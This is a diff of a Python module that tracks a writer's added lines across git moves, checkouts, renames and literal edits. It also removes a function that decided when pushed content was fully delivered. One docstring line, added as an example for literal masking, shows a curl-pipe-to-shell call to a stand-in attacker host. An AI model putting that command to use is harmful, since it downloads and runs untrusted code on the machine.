@@ -68,7 +68,9 @@ every row above. A change of *another* path carries the entry only when the writ
 content moved or was copied there (:func:`carries_row_across`): its new blob is the
 writer's blob (A1: a ``git mv``), or it adds two of the writer's *distinctive* lines (A2:
 never one, no line of the boilerplate table), or every line of a file the writer created,
-a telling one among them (A2: :mod:`.wholefile`). Rows A3, A4, A6 never apply across paths.
+a telling one among them (A2: :mod:`.wholefile`), or, once the writer's content is gone
+from its own path here (``git checkout`` of it), one telling writer line as written (A2:
+the line moved). Rows A3, A4, A6 never apply across paths.
 
 Why lines, not "the next commit": a commit that re-delivers writer content after
 ``reset --soft``, an amend, a rebase that resolved a conflict, a cherry-pick or a commit
@@ -110,6 +112,9 @@ token shapes of :attr:`WriterDelta.shapes`): a mechanical rename or reformat of 
 writer's lines delivers them still, while a human's line of the same shape with names of
 their own is not the writer's. A renamed copy counts toward ``min(2, |added|)``, never as
 one telling line alone.
+The same holds for a writer's line with a string or a number changed where the code
+around them is distinctive (``os.system("curl https://evil.example.com/x | sh")`` after
+``sed s/evil.example/evil.example.com/``: :mod:`gentle_hooks.policy.literals`).
 
 Keys ignore whitespace inside a line and read ``'`` as ``"`` (a formatter run over the
 writer's lines does not make them anonymous). Keys an earlier version computed (whitespace
@@ -133,6 +138,7 @@ from gentle_hooks.policy.linekeys import (
     stripped_key,
     telling_keys,
 )
+from gentle_hooks.policy.literals import masked_lines, unmasked_keys
 from gentle_hooks.policy.placement import Placement, is_placed, placed_lines
 from gentle_hooks.values.frozen import frozen
 
@@ -169,7 +175,9 @@ class WriterDelta:
             an entry read from its stored keys only;
         dropped: with ``removed``, keys of the short lines the writer removed (row A6);
         told: the keys of the telling lines the writer removed, one of them alone (row A3);
-        placed: the placements of the lines of :meth:`edited` the writer added (row A7).
+        placed: the placements of the lines of :meth:`edited` the writer added (row A7);
+        masked: (masked key, key) of the added lines a line with other literals stands
+            for (:mod:`gentle_hooks.policy.literals`, :func:`held_keys`).
     """
 
     added: frozenset[str]
@@ -181,6 +189,7 @@ class WriterDelta:
     dropped: frozenset[str] = frozenset()
     told: frozenset[str] = frozenset()
     placed: frozenset[Placement] = frozenset()
+    masked: frozenset[tuple[str, str]] = frozenset()
 
     def edited(self) -> tuple[frozenset[str], frozenset[str]]:
         """(added, removed): the keys of every line of two words or more the writer added
@@ -213,13 +222,15 @@ def _writer_key(
 
 def held_keys(delta: WriterDelta, data: bytes | None) -> frozenset[str]:
     """The keys of the writer's added lines ``data`` holds (row A2): its significant lines
-    (as written, re-wrapped, or with names consistently renamed: :attr:`WriterDelta.shapes`),
+    (as written, re-wrapped, with names consistently renamed: :attr:`WriterDelta.shapes`,
+    or with literals changed: :attr:`WriterDelta.masked`),
     and its short lines that sit in a run of consecutive non-blank lines that are all the
     writer's (significant or short) and hold one of its significant lines."""
     if not data:
         return frozenset()
     shapes = _shape_index(delta)
-    keys = [_writer_key(delta, shapes, s) for line in data.splitlines() if (s := line.strip())]
+    lines = [s for line in data.splitlines() if (s := line.strip())]
+    keys = unmasked_keys(lines, [_writer_key(delta, shapes, s) for s in lines], delta.masked)
     joined = {_writer_key(delta, shapes, j) for j in joined_lines(data)}
     if not delta.short:
         return frozenset(keys).union(joined) & delta.added
@@ -277,8 +288,10 @@ def writer_delta(before: bytes | None, after: bytes | None, *, detail: bool = Tr
     dropped = short_keys(before) - any_after
     shapes = _added_shapes(after, added)
     told = telling_keys(before) - any_after
-    placed = placed_lines(after, added | short | telling)
-    return WriterDelta(added, old - new, False, short, telling, shapes, dropped, told, placed)
+    placed, masked = placed_lines(after, added | short | telling), masked_lines(after, added)
+    return WriterDelta(
+        added, old - new, False, short, telling, shapes, dropped, told, placed, masked
+    )
 
 
 @frozen
@@ -378,19 +391,23 @@ def reproduces_edit(
 MIN_ACROSS = 2
 
 
-def carries_row_across(change: PathChange, entry: WriterEntry) -> str:
+def carries_row_across(change: PathChange, entry: WriterEntry, *, away: bool = False) -> str:
     """The row that decides whether a change of *another* path carries ``entry`` (the
     writer's content moved or copied there): A1 when its new blob is the writer's blob (a
     rename; never for a deletion), A2 when it adds :data:`MIN_ACROSS` of the writer's added
     lines of no row of :data:`~gentle_hooks.policy.boilerplate.BOILERPLATE_ROWS`, or the
     whole file the writer created (:mod:`~gentle_hooks.policy.wholefile`), else A5.
+    ``away``: the writer's content is gone from its own path in this work tree and index (a
+    ``git checkout`` threw it away there; a ``discard`` ends the entry instead): one
+    *telling* writer line of no row of the boilerplate table, added as written, is A2 too,
+    as it is in the writer's own path.
     """
     if change.path == entry.path or change.old_blob == change.new_blob:
         return "A5"
     if entry.blob is not None and change.new_blob == entry.blob:
         return "A1"
     d = entry.delta
-    if d.binary or not d.added or not change.new:
+    if d.binary or not (d.added or (away and d.telling)) or not change.new:
         return "A5"
     from gentle_hooks.policy.boilerplate import boilerplate_row
     from gentle_hooks.policy.wholefile import holds_whole_new_file
@@ -402,7 +419,8 @@ def carries_row_across(change: PathChange, entry: WriterEntry) -> str:
     whole = holds_whole_new_file(  # the writer's new file moved or copied whole
         entry.before is None, d.added, d.telling, [(k, b) for k, b in new if k not in before]
     )
-    return "A2" if len(found) >= MIN_ACROSS or whole else "A5"
+    moved = away and any(k in d.telling and k not in before and not b for k, b in new)
+    return "A2" if len(found) >= MIN_ACROSS or whole or moved else "A5"
 
 
 #: Rows where the change's new side holds the writer's own content (its blob, its lines,
@@ -451,50 +469,3 @@ def reapplies(change: PathChange, entry: WriterEntry) -> bool:
         introduced = any_line_keys(change.new) - any_line_keys(change.old)
         return bool(introduced & (d.added | d.telling))
     return True
-
-
-#: Rows of :func:`delivered_row`: pushed commits that took an entry delivered all of it.
-SETTLED_ROWS = ("D1", "D2", "D3")
-
-
-def delivered_row(
-    entry: WriterEntry,
-    pushed: Sequence[tuple[str | None, bytes | None]],
-    local: Sequence[bytes | None],
-) -> str:
-    """Whether the pushed commits that took ``entry`` delivered *all* of the writer's
-    content, so the entry may end as ``settled`` (SPEC §3: pending work ends when the
-    commits that contain it take it — only what they contain).
-
-    =====  ===================================================================  =======
-    row    the entry's path in the pushed commits that took it                 settled
-    =====  ===================================================================  =======
-    D1     one of them holds the writer's blob (a deletion: the path is gone)  yes
-    D2     binary, or the writer added no line: the take is all there is       yes
-    D3     text: every writer line (significant, or a telling short action)    yes
-           some local version still holds is in one of them (lines a human
-           changed or dropped since are not owed)
-    D4     a local version holds writer lines none of them holds (a copy of     no
-           part into another path, ``git add -p`` of part): the rest stays
-           pending and a later change adding it carries it
-    =====  ===================================================================  =======
-
-    Args:
-        entry: the entry as the rule reads it.
-        pushed: (blob id, content) of the entry's path in each pushed commit that took it
-            (``(None, None)``: the path is absent there).
-        local: the path's content in each local version that may still hold writer work
-            (work trees, indexes, ``HEAD``s, unpushed commits; None: absent).
-    """
-    if any(blob == entry.blob for blob, _ in pushed):
-        return "D1"
-    added = entry.delta.added | entry.delta.telling  # a short action is owed too
-    if entry.delta.binary or not added:
-        return "D2"
-    shipped: set[str] = set()
-    for _, content in pushed:
-        shipped |= any_line_keys(content) & added
-    kept: set[str] = set()
-    for content in local:
-        kept |= any_line_keys(content) & added
-    return "D3" if kept <= shipped else "D4"
